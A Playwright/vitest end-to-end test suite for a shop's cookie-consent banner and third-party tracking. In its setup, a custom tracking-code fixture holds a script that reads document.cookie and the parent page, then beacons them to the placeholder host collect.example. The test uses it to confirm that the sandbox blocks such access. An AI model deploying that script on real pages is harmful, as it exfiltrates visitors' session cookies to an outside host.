import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { sql } from 'kysely'
import { cookieConsentTexts } from '#capabilities/people/cookie-consents/texts.ts'
import { trackingTexts } from '#capabilities/outward/tracking/texts.ts'
import { furnishShop } from './furnish-shop.ts'
import { openApp, viewportsOf, type OpenedApp, type VisitOptions } from './open-app.ts'
import { fillPayer, orderAndPay } from './sell-and-buy.ts'

let app: OpenedApp
beforeAll(async () => {
  app = await openApp()
  const { sellerId } = await furnishShop(app.world)
  const own = `<script>
    var seen = [kontor.page, kontor.variables.product_name || '', document.cookie];
    try { seen.push(parent.document.title) } catch (apart) { seen.push('apart') }
    new Image().src = 'https://collect.example/seen?' + encodeURIComponent(JSON.stringify(seen));
  </script>`
  await app.world.transact(async (ctx) => {
    for (const [name, type, code, category] of [
      ['Visits', 'google_analytics_4', 'G-AB12CD34EF', 'statistics'],
      ['Ads', 'facebook_pixel', '1234567890123456', 'marketing'],
      ['Journeys', 'tracify', '0b5e1f1c-6f0e-4b1a-9a53-2f1f0c7f9d11', 'marketing'],
      ['Own', 'custom_tracking_codes', own, 'marketing'],
    ] as const)
      await sql`insert into tracking_codes (seller_id, name, type, code, category, state, since, created_at)
        values (${sellerId}, ${name}, ${type}, ${code}, ${category}, 'active', ${ctx.now.subtract({ hours: 1 })}, ${ctx.now})`.execute(
        ctx.db,
      )
  })
})
afterAll(() => app.close())

const ask = cookieConsentTexts.in('en')
const words = trackingTexts.in('en')

/** A visitor whose browser answers for every foreign host, and writes down whom it was asked for. */
const visitor = async (
  viewport: 'phone' | 'desktop',
  options?: VisitOptions,
): Promise<{ page: Page; foreign: URL[] }> => {
  const page = await app.visit(viewport, options)
  const foreign: URL[] = []
  await page.context().route(
    (url) => url.origin !== app.url && url.protocol === 'https:',
    (route) => {
      foreign.push(new URL(route.request().url()))
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: '' })
    },
  )
  return { page, foreign }
}

const reasonsAt = (page: Page): Promise<(string | null)[]> =>
  page.locator('[data-reason]').evaluateAll((list) => list.map((each) => each.getAttribute('data-reason')))

const hosts = (foreign: readonly URL[]): string[] => [...new Set(foreign.map(({ host }) => host))].sort()

test.each(viewportsOf('phone'))('who refuses is measured by nobody, and not asked again (%s)', async (viewport) => {
  const { page, foreign } = await visitor(viewport)
  await page.goto('/s/nora/grid-templates')
  const question = page.getByRole('region', { name: ask('ask.title') })
  await question.waitFor()
  await app.expectAccessible(page)
  expect(foreign).toEqual([])
  expect(await page.context().cookies()).toEqual([])
  const [refuse, accept] = await Promise.all(
    [ask('ask.refuse'), ask('ask.accept')].map((name) => question.getByRole('button', { name }).boundingBox()),
  )
  expect(Math.abs(refuse!.height - accept!.height)).toBeLessThan(1)
  await question.getByRole('button', { name: ask('ask.refuse') }).click()
  await question.waitFor({ state: 'detached' })

  await page.goto('/s/nora#tracking')
  await page.getByRole('complementary', { name: words('console.title') }).waitFor()
  expect(await reasonsAt(page)).toEqual(['refused', 'refused', 'refused', 'refused'])
  expect(await question.count()).toBe(0)
  expect(foreign).toEqual([])
  await page.context().close()
})

test('who agrees is measured by each service once, from the product to the sale', async () => {
  const { page, foreign } = await visitor('desktop')
  await page.goto('/s/nora/grid-templates')
  await page.getByRole('button', { name: ask('ask.accept') }).click()
  await expect
    .poll(() => hosts(foreign))
    .toEqual(['collect.example', 'connect.facebook.net', 'scripting.tracify.ai', 'www.googletagmanager.com'])
  const seen = foreign.find(({ host }) => host === 'collect.example')!
  expect(JSON.parse(decodeURIComponent(seen.search.slice(1)))).toEqual(['product_page', 'Grid templates', '', 'apart'])
  const told = () =>
    page.evaluate(() => {
      const { dataLayer, fbq } = window as unknown as { dataLayer: ArrayLike<unknown>[]; fbq: { queue: unknown[][] } }
      return {
        google: dataLayer.map((each) => Array.from(each)).filter(([command]) => command === 'event'),
        meta: fbq.queue.map(([, , deed, about]) => [deed, about]),
      }
    })
  expect(await told()).toMatchObject({
    google: [['event', 'view_item', { send_to: 'G-AB12CD34EF', value: 49, currency: 'EUR' }]],
    meta: [
      [undefined, undefined],
      ['PageView', undefined],
      ['ViewContent', { value: 49, currency: 'EUR' }],
    ],
  })

  await page.goto('/s/nora/grid-templates/checkout')
  await expect.poll(async () => (await told()).google.map(([, deed]) => deed)).toEqual(['begin_checkout'])
  await fillPayer(page, 'mara@example.com')
  await orderAndPay(page)
  await expect.poll(async () => (await told()).google.map(([, deed]) => deed)).toEqual(['purchase'])
  const { google } = await told()
  expect(google[0]![2]).toMatchObject({ value: 49, currency: 'EUR' })
  expect(JSON.stringify(await told())).not.toMatch(/mara|voss|lindenweg/i)

  await expect.poll(() => foreign.some(({ search }) => search.includes('success_page'))).toBe(true)
  const sale = foreign.find(({ host }) => host === 'event.tracify.ai')!.searchParams
  expect(Object.fromEntries(sale)).toMatchObject({ eid: 'purchase', cc: 'EUR', amount: '49,00', QTY1: '1' })
  expect(sale.toString()).not.toMatch(/mara|voss|lindenweg/i)

  foreign.length = 0
  await page.goto(`${page.url()}#tracking`)
  await page.reload()
  await page.getByRole('complementary', { name: words('console.title') }).waitFor()
  expect(await reasonsAt(page)).toEqual(['told_before', 'told_before', 'told_before', 'told_before'])
  expect(foreign).toEqual([])
  await page.context().close()
})

test('an answer is given and changed without a script', async () => {
  const { page, foreign } = await visitor('phone', { javaScriptEnabled: false })
  await page.goto('/s/nora')
  await page.getByRole('link', { name: ask('settings.title') }).click()
  await page.getByText(ask('settings.unanswered')).waitFor()
  await page.getByLabel(ask('category.statistics.name')).check()
  await page.getByRole('button', { name: ask('settings.save') }).click()
  await page.getByText(ask('settings.saved')).waitFor()
  expect(await page.getByLabel(ask('category.statistics.name')).isChecked()).toBe(true)
  expect(await page.getByLabel(ask('category.marketing.name')).isChecked()).toBe(false)
  await page.getByRole('button', { name: ask('ask.refuse') }).click()
  await page.getByText(ask('settings.saved')).waitFor()
  expect(await page.getByLabel(ask('category.statistics.name')).isChecked()).toBe(false)
  expect(foreign).toEqual([])
  await page.context().close()
})

test('the first campaign is kept once the visitor agreed, and goes when they no longer do', async () => {
  const { page } = await visitor('desktop')
  const kept = async () => (await page.context().cookies()).find(({ name }) => name.startsWith('kontor_visits_'))?.value
  await page.goto('/s/nora?utm_source=news&utm_campaign=spring')
  await page.getByRole('button', { name: ask('ask.accept') }).waitFor()
  expect(await kept()).toBeUndefined()
  // The address leads on by itself, without anything that is kept.
  await page.locator('a[href*="grid-templates"]').first().click()
  await page.waitForURL(/grid-templates\?.*utm_campaign=spring/)
  await page.getByRole('button', { name: ask('ask.accept') }).click()
  await expect.poll(kept).toContain('spring')
  await page.goto('/s/nora/grid-templates?utm_source=ads&utm_campaign=summer')
  await expect.poll(kept).toContain('summer')
  expect(await kept()).toContain('spring')

  await page.goto('/s/nora/grid-templates')
  await page.locator('#buy button').click()
  await page.waitForURL(/checkout/)
  await fillPayer(page, 'campaign@example.com')
  await orderAndPay(page)
  const { firstVisit, lastVisit } = await app.world.world.db
    .selectFrom('orders')
    .select(['firstVisit', 'lastVisit'])
    .orderBy('id', 'desc')
    .executeTakeFirstOrThrow()
  expect([firstVisit, lastVisit]).toEqual([
    { source: 'news', campaign: 'spring' },
    { source: 'ads', campaign: 'summer' },
  ])
  await page.goto('/s/nora/document/cookies')
  await page.locator('button[name="answer"][value="none"]').click()
  await expect.poll(kept).toBeUndefined()
})
